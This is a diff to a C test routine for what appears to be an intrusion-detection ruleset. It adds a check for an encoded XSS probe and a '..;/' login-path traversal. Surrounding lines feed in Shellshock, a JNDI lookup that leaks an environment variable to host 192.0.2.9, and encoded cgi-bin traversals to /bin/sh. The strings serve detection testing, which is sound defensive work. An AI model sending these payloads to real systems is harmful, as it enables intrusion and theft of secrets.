@@ -61,6 +61,7 @@ static void attacks_in_many_spellings(void)
         CHECK(told(files[i], "", "KD-PE-0011", 1));
     for (size_t i = 0; i < KD_COUNT(sql); i++)
         CHECK(told(sql[i], "", "KD-PE-0012", 1));
+    CHECK(told("/?n=%3Cscript%3Ealert(1)%3C/script%3E", "", "KD-PE-0010", 1) && told("/tmui/login.jsp/..;/tmui/x", "", "KD-PE-0011", 1));
     CHECK(alerts_of("/", "() { :;}; /bin/ping -c1 192.0.2.9", "KD-PE-0010") == 1);
     CHECK(alerts_of("/", "Mozilla/5.0 ${jndi:dns://192.0.2.9/${env:KEY}}", "KD-PE-0010") == 1);
     CHECK(alerts_of("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", "KD-PE-0010") + alerts_of("/cgi-bin/.%%32%65/.%2e/bin/sh", "", "KD-PE-0010") == 2);
